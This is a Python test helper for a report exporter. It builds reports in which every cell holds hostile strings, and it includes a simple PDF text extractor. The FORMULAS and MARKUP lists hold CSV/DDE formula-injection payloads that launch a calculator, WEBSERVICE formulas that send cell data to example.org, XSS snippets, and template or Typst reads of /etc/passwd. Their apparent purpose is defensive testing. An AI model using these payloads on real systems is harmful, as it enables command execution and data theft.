"""What tests of reports share: a report with every kind of cell, hostile texts, and a reader of typeset PDFs."""

from __future__ import annotations

import re
import zlib
from datetime import date

from indexer.wording import Text, either
from matcher.ledger.reports.document import CellKind, ReportCell, ReportColumn, ReportDocument, ReportTable
from matcher.ledger.rows.chain import ExportedHead

HEADS = (
    ExportedHead("entries", 12, "3f" * 32, "2019-05-15T04:00:00+00:00"),
    ExportedHead("steps", 30, "a1" * 32, "2019-05-15T04:00:00+00:00"),
)
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?"&A1,"click")',
    '=WEBSERVICE("https://example.org/"&A1)',
    '=IMPORTXML("https://example.org","//a")',
    "=SUM(A1:A9)*cmd|'/c calc'!A1",
    '=DDE("cmd";"/C calc";"x")',
    "={1,2}",
    "=@SUM(1)",
    "==1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-1",
    "@SUM(1+1)",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "\xa0@SUM(1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    '"=1+1"',
    '";=1+1;"',
    "of:=1+1",
    "msoxl:=1+1",
    "|=1+1",
    "%0A=1+1",
    "\x00=1+1",
    "\ud800=1+1",
]
MARKUP = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<style>*{display:none}</style>",
    "</td></table><h1>x</h1>",
    "<a href='javascript:alert(1)'>x</a>",
    "<!-- x",
    "]]><x/>",
    "&lt;b&gt;",
    "{{ 7*7 }}",
    "{% include '/etc/passwd' %}",
    "#set page(width: 1cm)",
    '#read("/etc/passwd")',
    '#eval("1+1")',
    '#image("/etc/passwd")',
    '"); #panic("x"); ("',
    "*bold* _it_ `raw` $x^2$",
    "= Heading",
    "<label> @label",
    "\\u{41} \\ ~ --",
    "[#x]]",
    "A&L&P&D",
    "Sheet'!A1",
    "a:b\\c/d?e*f[g]",
]
PAYLOADS = [*FORMULAS, *MARKUP]


def report_with(*texts: str) -> ReportDocument:
    """Return a report that has each text in every place that takes one."""

    def twice(text: str) -> Text:
        return either(text, text)

    tables = [
        ReportTable(
            twice(text),
            (
                ReportColumn(twice(text)),
                ReportColumn(twice(text), CellKind.NTD),
                ReportColumn(twice(text), CellKind.DATE),
            ),
            ((ReportCell(text, (text,), twice(text)), ReportCell(twice(text), (text,)), ReportCell(text)),),
            (twice(text),),
        )
        for text in texts
    ]
    title = twice(" ".join(texts))
    return ReportDocument("test", title, date(2019, 5, 15), tuple(tables), HEADS, tuple(map(twice, texts)))


def full_report() -> ReportDocument:
    """Return a report with every kind of value, in both languages."""
    kinds = [
        ReportColumn(either("項目", "item")),
        ReportColumn(either("件數", "count"), CellKind.COUNT),
        ReportColumn(either("金額", "amount"), CellKind.NTD),
        ReportColumn(either("比率", "rate"), CellKind.PERCENT),
        ReportColumn(either("分攤", "share"), CellKind.SHARE),
        ReportColumn(either("日期", "day"), CellKind.DATE),
    ]
    row = (
        ReportCell(either("研發經費", "research money")),
        ReportCell(1_205, ("entry-0001", "entry-0002")),
        ReportCell(-123_456_789, ("entry-0003",), either("有爭議", "disputed")),
        ReportCell(0.456),
        ReportCell(1.25),
        ReportCell(date(2019, 5, 2)),
    )
    empty = tuple(ReportCell(None) for _ in row)
    table = ReportTable(
        either("表一", "Table 1"), tuple(kinds), (row, empty), (either("金額為新臺幣", "amounts are NTD"),)
    )
    title = either("試算報表", "Test report")
    notes = (either("整份備註", "a note on the whole"),)
    return ReportDocument("test", title, date(2019, 5, 15), (table,), HEADS, notes)


# A string of a PDF is written in brackets, or as hexadecimal digits.
_STRING = rb"\((?:[^\\()]|\\.)*\)|<[0-9A-Fa-f]*>"


def text_of_pdf(pdf: bytes) -> str:
    """Return the text of a PDF as a reader copies it: its glyphs, by the table that its one font brings along."""
    glyphs: dict[int, str] = {}
    shown: list[bytes] = []
    for stream in re.findall(rb"stream\r?\n(.*?)\r?\nendstream", pdf, re.DOTALL):
        try:
            # Its end may look like a line break and be taken for one.
            content = zlib.decompressobj().decompress(stream)
        except zlib.error:
            continue
        if b"begincmap" in content:
            for glyph, text in re.findall(rb"<([0-9A-F]{4})> <([0-9A-F]+)>\n", content.partition(b"beginbfchar")[2]):
                glyphs[int(glyph, 16)] = bytes.fromhex(text.decode()).decode("utf-16-be")
        if b"BT" in content:
            shown += re.findall(rb"\[((?:" + _STRING + rb"|[-0-9.]+|\s)*)\]TJ", content, re.DOTALL)
    codes = b"".join(_string(part) for run in shown for part in re.findall(_STRING, run, re.DOTALL))
    return "".join(glyphs.get(codes[i] << 8 | codes[i + 1], "") for i in range(0, len(codes), 2))


_ESCAPED = {b"n": b"\n", b"r": b"\r", b"t": b"\t", b"b": b"\b", b"f": b"\f"}


def _string(written: bytes) -> bytes:
    return bytes.fromhex(written[1:-1].decode()) if written[:1] == b"<" else _literal(written[1:-1])


def _literal(text: bytes) -> bytes:
    def plain(found: re.Match[bytes]) -> bytes:
        code = found[1]
        return bytes([int(code, 8)]) if code.isdigit() else _ESCAPED.get(code, code)

    return re.sub(rb"\\([0-7]{1,3}|.)", plain, text, flags=re.DOTALL)
